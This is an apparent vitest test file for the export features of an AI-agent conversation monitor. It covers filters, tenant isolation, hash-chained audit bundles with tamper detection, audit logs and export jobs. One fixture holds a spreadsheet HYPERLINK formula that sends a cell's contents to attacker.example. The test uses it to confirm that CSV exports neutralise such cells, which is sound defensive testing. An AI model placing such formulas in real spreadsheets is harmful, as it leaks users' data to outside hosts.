import { createHash } from "node:crypto";
import { mkdtempSync, readdirSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import * as downloadRoute from "@/app/api/orgs/[orgId]/projects/[projectId]/exports/[exportId]/download/route";
import * as jobRoute from "@/app/api/orgs/[orgId]/projects/[projectId]/exports/[exportId]/route";
import * as exportsRoute from "@/app/api/orgs/[orgId]/projects/[projectId]/exports/route";
import * as streamRoute from "@/app/api/orgs/[orgId]/projects/[projectId]/exports/stream/route";
import * as verifyRoute from "@/app/api/orgs/[orgId]/projects/[projectId]/exports/verify/route";
import * as v1ExportRoute from "@/app/api/v1/export/route";
import { createApiKey } from "@/lib/auth/api-keys";
import { db } from "@/lib/db/client";
import { generateDemoConversations } from "@/lib/demo/generate";
import { ingestConversation } from "@/lib/ingest/conversations";
import { addMemberWithRole, call, createTenant, sessionCookie } from "@/tests/fixtures";
import { useMigratedDatabase } from "@/tests/test-database";
import { exportJobsTask, runExportJobs } from "./job-runner";
import { appendForgedMessage, changeOneCharacter, deleteRecord, recordAt, swapRecords, verifyText } from "./testing";

// Set before anything reads the environment, so job files land in a directory this file owns.
const dataDir = mkdtempSync(path.join(tmpdir(), "warden-export-"));
process.env.WARDEN_DATA_DIR = dataDir;
useMigratedDatabase();

const DEMO_NOW = new Date("2026-03-10T12:00:00Z");
const injection = generateDemoConversations(DEMO_NOW).find((c) => c.id === "demo-incident-web-injection")!;
const HOSTILE_CELL = '=HYPERLINK("http://attacker.example/?q="&A1,"open")';

async function seededTenant(label: string) {
  const t = await createTenant(label);
  const scope = { organizationId: t.organization.id, projectId: t.project.id };
  await ingestConversation(scope, { conversation_id: injection.id, format: "warden", transcript: { messages: injection.messages }, scan: true });
  await ingestConversation(scope, {
    conversation_id: `${label}-csv`,
    format: "warden",
    transcript: {
      messages: [
        { sender: "web_surfer", recipients: ["planner"], content: HOSTILE_CELL, created_at: "2026-03-09T10:00:00Z" },
        { sender: "planner", recipients: ["web_surfer"], content: "@SUM(1+1) noted", created_at: "2026-03-09T10:00:05Z" },
      ],
    },
    scan: true,
  });
  const params = { orgId: t.organization.id, projectId: t.project.id };
  return { ...t, scope, params, cookie: await sessionCookie(t.owner.id) };
}

type Tenant = Awaited<ReturnType<typeof seededTenant>>;
let a: Tenant;
let b: Tenant;

beforeAll(async () => {
  a = await seededTenant("exp-a");
  b = await seededTenant("exp-b");
  // B's copy of the conversation says something else, so a leak would be visible.
  await ingestConversation(b.scope, {
    conversation_id: "b-only-secret-plan",
    format: "warden",
    transcript: { messages: [{ sender: "planner", content: "B's confidential rollout plan", created_at: "2026-03-09T09:00:00Z" }] },
    scan: false,
  });
});

const jsonl = (text: string) => text.trim().split("\n").filter(Boolean).map((l) => JSON.parse(l) as Record<string, unknown>);
const streamUrl = (query: string) => `/api/orgs/x/projects/y/exports/stream?${query}`;

/** The streamed file as the browser saves it: bytes decoded without dropping a byte order mark. */
async function exportAs(t: Tenant, query: string, cookie = t.cookie) {
  const request = new Request(`http://localhost:3000${streamUrl(query)}`, { headers: { cookie } });
  const response = await streamRoute.GET(request, { params: Promise.resolve(t.params) });
  const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(await response.arrayBuffer());
  const body = response.ok ? text : (JSON.parse(text) as { error: { field?: string } });
  // eslint-disable-next-line @typescript-eslint/no-explicit-any -- a file or the error shape, as in tests/fixtures call()
  return { status: response.status, headers: response.headers, body: body as any };
}

describe("streamed exports honour filters and tenancy", () => {
  it("exports one conversation's messages in order with the findings of each message's scan", async () => {
    const res = await exportAs(a, `kind=conversations&format=jsonl&conversation=${injection.id}`);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-disposition")).toMatch(/attachment; filename="warden-.*-conversations-.*\.jsonl"/);
    const rows = jsonl(res.body as string);
    expect(rows.map((r) => r.seq)).toEqual([0, 1, 2, 3, 4, 5, 6]);
    expect(new Set(rows.map((r) => r.conversation_id))).toEqual(new Set([injection.id]));
    const injected = rows.find((r) => r.sender === "web_surfer")!;
    expect(injected.verdict).not.toBe("allowed");
    expect((injected.findings as { category: string }[]).map((f) => f.category)).toContain("prompt_injection");
  });

  it("filters by agent, verdict, category and time range", async () => {
    const coder = jsonl((await exportAs(a, `kind=conversations&format=jsonl&agent=coder`)).body as string);
    expect(coder.length).toBeGreaterThan(0);
    expect(coder.every((r) => r.sender === "coder")).toBe(true);
    const blocked = jsonl((await exportAs(a, `kind=conversations&format=jsonl&verdict=blocked`)).body as string);
    expect(blocked.length).toBe(2);
    expect(blocked.every((r) => r.verdict === "blocked")).toBe(true);
    const injections = jsonl((await exportAs(a, `kind=events&format=jsonl&category=prompt_injection`)).body as string);
    expect(injections.length).toBeGreaterThan(0);
    expect(injections.every((r) => (r.categories as string[]).includes("prompt_injection"))).toBe(true);
    const dayBefore = jsonl((await exportAs(a, `kind=conversations&format=jsonl&from=2026-03-09T00:00:00Z&to=2026-03-09T23:59:59Z`)).body as string);
    expect(dayBefore.map((r) => r.conversation_id)).toEqual(["exp-a-csv", "exp-a-csv"]);
  });

  it("never exports another organization's conversation, even by its id", async () => {
    const bConversation = await db().conversation.findFirstOrThrow({ where: { projectId: b.project.id, externalId: "b-only-secret-plan" } });
    for (const conversation of ["b-only-secret-plan", bConversation.id]) {
      for (const kind of ["conversations", "events"]) {
        const res = await exportAs(a, `kind=${kind}&format=jsonl&conversation=${conversation}`);
        expect(res.status).toBe(200);
        expect(res.body).toBe("");
      }
    }
    const all = await exportAs(a, "kind=conversations&format=jsonl");
    expect(all.body as string).not.toContain("confidential rollout");
    // B's session cannot reach A's project at all.
    const cross = await call(streamRoute.GET, "GET", streamUrl("kind=events&format=jsonl"), { params: a.params, cookie: b.cookie });
    expect(cross.status).toBe(404);
  });

  it("refuses bad choices with a 422 naming the field", async () => {
    const res = await exportAs(a, "kind=conversations&format=xlsx");
    expect(res.status).toBe(422);
    expect(res.body.error.field).toBe("format");
    const reversed = await exportAs(a, "kind=events&format=csv&from=2026-03-10T00:00:00Z&to=2026-03-01T00:00:00Z");
    expect(reversed.body.error.field).toBe("to");
  });

  it("writes CSV with a BOM on request and neutralises cells a spreadsheet would run", async () => {
    const res = await exportAs(a, "kind=conversations&format=csv&conversation=exp-a-csv&bom=true");
    const text = res.body as string;
    expect(text.startsWith("\uFEFFconversation_id,seq,")).toBe(true);
    expect(text).toContain(`"'=HYPERLINK(""http://attacker.example/?q=""&A1,""open"")"`);
    expect(text).toContain("'@SUM(1+1) noted");
    const noBom = await exportAs(a, "kind=conversations&format=csv&conversation=exp-a-csv");
    expect((noBom.body as string).startsWith("conversation_id")).toBe(true);
  });
});

describe("audit bundle exported from the database", () => {
  let bundle: string;
  beforeAll(async () => {
    const res = await exportAs(a, "kind=conversations&format=bundle");
    expect(res.status).toBe(200);
    bundle = res.body as string;
  });

  it("verifies OK, with the manifest naming the project and the exporter, and the stored chain hashes", async () => {
    const result = await verifyText(bundle);
    expect(result).toMatchObject({ ok: true, kind: "conversations", records: 9, segments: 2 });
    const manifest = JSON.parse(bundle.split("\n")[0]!);
    expect(manifest).toMatchObject({ type: "manifest", kind: "conversations", project: { id: a.project.id }, exporter: { label: a.owner.email } });
    const stored = await db().conversation.findFirstOrThrow({ where: { projectId: a.project.id, externalId: injection.id } });
    expect(bundle).toContain(`"chainHash":"${stored.lastChainHash}"`);
  });

  it("tampering is reported at the right message: changed, removed, reordered, forged at the end", async () => {
    const injectionFirst = recordAt(bundle, 1).segment === injection.id;
    const base = injectionFirst ? 0 : 2;
    expect(recordAt(bundle, base + 3).segment).toBe(injection.id);
    expect(await verifyText(changeOneCharacter(bundle, base + 3))).toMatchObject({ ok: false, problem: "changed", position: base + 3, segment: injection.id, seq: 2 });
    expect(await verifyText(deleteRecord(bundle, base + 4))).toMatchObject({ ok: false, problem: "removed", position: base + 4, segment: injection.id, seq: 3 });
    expect(await verifyText(swapRecords(bundle, base + 5, base + 6))).toMatchObject({ ok: false, problem: "reordered", position: base + 5, seq: 4 });
    expect(await verifyText(appendForgedMessage(bundle, "after_last_record"))).toMatchObject({ ok: false, problem: "inserted", position: 10 });
    expect(await verifyText(appendForgedMessage(bundle, "end_of_file"))).toMatchObject({ ok: false, problem: "inserted", position: 10 });
  });

  it("the verify route reads an uploaded bundle and reports the same", async () => {
    const ok = await call(verifyRoute.POST, "POST", "/v", { params: a.params, cookie: a.cookie, rawBody: bundle, contentType: "application/x-ndjson" });
    expect(ok.body).toMatchObject({ ok: true, records: 9 });
    const bad = await call(verifyRoute.POST, "POST", "/v", { params: a.params, cookie: a.cookie, rawBody: deleteRecord(bundle, 2), contentType: "application/x-ndjson" });
    expect(bad.body).toMatchObject({ ok: false, problem: "removed", position: 2 });
  });

  it("a conversation whose first messages were purged starts its chain at the recorded anchor", async () => {
    const conv = await db().conversation.findFirstOrThrow({ where: { projectId: a.project.id, externalId: injection.id } });
    const purged = await db().message.findMany({ where: { conversationId: conv.id, seq: { lt: 2 } }, orderBy: { seq: "asc" } });
    await db().$transaction([
      db().purgedRange.create({
        data: { organizationId: a.organization.id, projectId: a.project.id, conversationId: conv.id, kind: "messages", fromSeq: 0, toSeq: 1, count: 2, lastChainHash: purged[1]!.chainHash, cutoff: new Date() },
      }),
      db().scanEvent.updateMany({ where: { messageId: { in: purged.map((m) => m.id) } }, data: { messageId: null } }),
      db().message.deleteMany({ where: { id: { in: purged.map((m) => m.id) } } }),
    ]);
    const res = await exportAs(a, `kind=conversations&format=bundle&conversation=${injection.id}`);
    const text = res.body as string;
    expect(JSON.parse(text.split("\n")[1]!)).toMatchObject({ type: "segment", anchor: { seq: 1, source: "purged_range", hash: purged[1]!.chainHash } });
    expect(await verifyText(text)).toMatchObject({ ok: true, records: 5 });
  });
});

describe("who may export, and the audit log", () => {
  it("a viewer may export, and every export (stream, job, API) is recorded with who, what and how many rows", async () => {
    const viewer = await addMemberWithRole(a.organization.id, "viewer", "exp");
    const viewerCookie = await sessionCookie(viewer.id);
    const streamed = await exportAs(a, `kind=conversations&format=csv&conversation=${injection.id}`, viewerCookie);
    expect(streamed.status).toBe(200);
    const queued = await call(exportsRoute.POST, "POST", "/e", {
      params: a.params,
      cookie: viewerCookie,
      json: { kind: "events", format: "jsonl", delivery: "job" },
    });
    expect(queued.status).toBe(200);
    expect(queued.body).toMatchObject({ delivery: "job", job: { status: "queued", requestedBy: viewer.email } });

    const { secret } = await createApiKey(a.scope, { name: "auditor-pipeline", scopes: ["read"], expiresAt: null }, { type: "user", id: a.owner.id, label: a.owner.email }, null);
    const api = await v1ExportRoute.GET(new Request("http://localhost:3000/api/v1/export?kind=events&format=jsonl&verdict=blocked", { headers: { authorization: `Bearer ${secret}` } }), { params: Promise.resolve({}) });
    expect(api.status).toBe(200);
    const apiRows = jsonl(await api.text());
    expect(apiRows.length).toBe(2);
    expect(apiRows.every((r) => r.verdict === "blocked")).toBe(true);

    const entries = await db().auditLogEntry.findMany({ where: { organizationId: a.organization.id, targetType: "export" }, orderBy: { createdAt: "asc" } });
    const byViewer = entries.filter((e) => e.actorLabel === viewer.email);
    expect(byViewer.map((e) => e.action)).toEqual(["export.streamed", "export.requested"]);
    const conv = await db().conversation.findFirstOrThrow({ where: { projectId: a.project.id, externalId: injection.id }, select: { id: true } });
    const rows = await db().message.count({ where: { conversationId: conv.id } });
    expect(byViewer[0]!.metadata).toMatchObject({ kind: "conversations", format: "csv", conversation: injection.id, rows });
    const byKey = entries.find((e) => e.actorType === "api_key");
    expect(byKey).toMatchObject({ actorLabel: "auditor-pipeline", action: "export.streamed" });
    expect(byKey!.metadata).toMatchObject({ kind: "events", verdict: "blocked", rows: apiRows.length });
  });

  it("the export API needs a read-scoped key", async () => {
    const { secret } = await createApiKey(a.scope, { name: "ingest-only", scopes: ["ingest"], expiresAt: null }, { type: "user", id: a.owner.id, label: a.owner.email }, null);
    const res = await call(v1ExportRoute.GET, "GET", "/api/v1/export?kind=events&format=jsonl", { bearer: secret });
    expect(res.status).toBe(403);
    const bad = await call(v1ExportRoute.GET, "GET", "/api/v1/export?kind=messages&format=jsonl", { bearer: (await createApiKey(a.scope, { name: "r", scopes: ["read"], expiresAt: null }, { type: "user", id: a.owner.id, label: a.owner.email }, null)).secret });
    expect(bad.status).toBe(422);
  });
});

describe("export jobs", () => {
  const signal = new AbortController().signal;
  const exportFiles = () => (readdirSync(path.join(dataDir, "exports"), { withFileTypes: true }).filter((f) => f.isFile()).map((f) => f.name));

  async function queue(t: Tenant, json: Record<string, unknown>) {
    const res = await call(exportsRoute.POST, "POST", "/e", { params: t.params, cookie: t.cookie, json: { delivery: "job", ...json } });
    expect(res.status).toBe(200);
    return res.body.job.id as string;
  }

  it("the task is registered under its name even when the routes load first (no import cycle)", () => {
    expect(exportJobsTask.name).toBe("export-jobs");
  });

  it("small exports are answered with a stream query unless a job is asked for", async () => {
    const res = await call(exportsRoute.POST, "POST", "/e", { params: a.params, cookie: a.cookie, json: { kind: "events", format: "csv" } });
    expect(res.body).toMatchObject({ delivery: "stream", query: "kind=events&format=csv" });
  });

  it("runs a queued job to a file with progress, size and SHA-256, downloadable by the project only", async () => {
    const id = await queue(a, { kind: "conversations", format: "bundle", conversation: injection.id });
    await runExportJobs(signal);
    const status = await call(jobRoute.GET, "GET", "/j", { params: { ...a.params, exportId: id }, cookie: a.cookie });
    expect(status.body).toMatchObject({ status: "done", downloadable: true, fileName: expect.stringMatching(/\.bundle\.jsonl$/) });
    expect(status.body.rowsDone).toBe(status.body.rowsTotal);
    const download = await call(downloadRoute.GET, "GET", "/d", { params: { ...a.params, exportId: id }, cookie: a.cookie });
    expect(download.status).toBe(200);
    const text = typeof download.body === "string" ? download.body : JSON.stringify(download.body);
    expect(createHash("sha256").update(text, "utf8").digest("hex")).toBe(status.body.sha256);
    expect(await verifyText(text)).toMatchObject({ ok: true });
    expect(exportFiles().some((f) => f.endsWith(".part"))).toBe(false);

    for (const handler of [jobRoute.GET, downloadRoute.GET] as const) {
      const cross = await call(handler, "GET", "/x", { params: { ...b.params, exportId: id }, cookie: b.cookie });
      expect(cross.status).toBe(404);
    }
    const crossCancel = await call(jobRoute.DELETE, "DELETE", "/x", { params: { ...b.params, exportId: id }, cookie: b.cookie });
    expect(crossCancel.status).toBe(404);
    const completed = await db().auditLogEntry.findFirst({ where: { organizationId: a.organization.id, action: "export.completed", targetId: id } });
    expect(completed?.metadata).toMatchObject({ sha256: status.body.sha256, rows: status.body.rowsDone });
  });

  it("a job cancelled while queued never runs; one cancelled while running leaves no file to download", async () => {
    const queuedId = await queue(a, { kind: "events", format: "csv" });
    const cancelled = await call(jobRoute.DELETE, "DELETE", "/j", { params: { ...a.params, exportId: queuedId }, cookie: a.cookie });
    expect(cancelled.body).toMatchObject({ status: "cancelled", downloadable: false });

    const runningId = await queue(a, { kind: "conversations", format: "jsonl" });
    // The cancel arrives just after a runner claimed the job: it stops at its first batch.
    await db().exportJob.update({ where: { id: runningId }, data: { cancelRequestedAt: new Date() } });
    await runExportJobs(signal);
    for (const id of [queuedId, runningId]) {
      const job = await db().exportJob.findUniqueOrThrow({ where: { id } });
      expect(job).toMatchObject({ status: "cancelled", filePath: null, sha256: null });
      const download = await call(downloadRoute.GET, "GET", "/d", { params: { ...a.params, exportId: id }, cookie: a.cookie });
      expect(download.status).toBe(404);
      expect(exportFiles().filter((f) => f.startsWith(id))).toEqual([]);
    }
    const again = await call(jobRoute.DELETE, "DELETE", "/j", { params: { ...a.params, exportId: queuedId }, cookie: a.cookie });
    expect(again.status).toBe(409);
  });

  it("only the requester or an admin may cancel a job", async () => {
    const id = await queue(a, { kind: "events", format: "jsonl" });
    const viewer = await addMemberWithRole(a.organization.id, "viewer", "cancel");
    const res = await call(jobRoute.DELETE, "DELETE", "/j", { params: { ...a.params, exportId: id }, cookie: await sessionCookie(viewer.id) });
    expect(res.status).toBe(403);
    await runExportJobs(signal);
  });
});
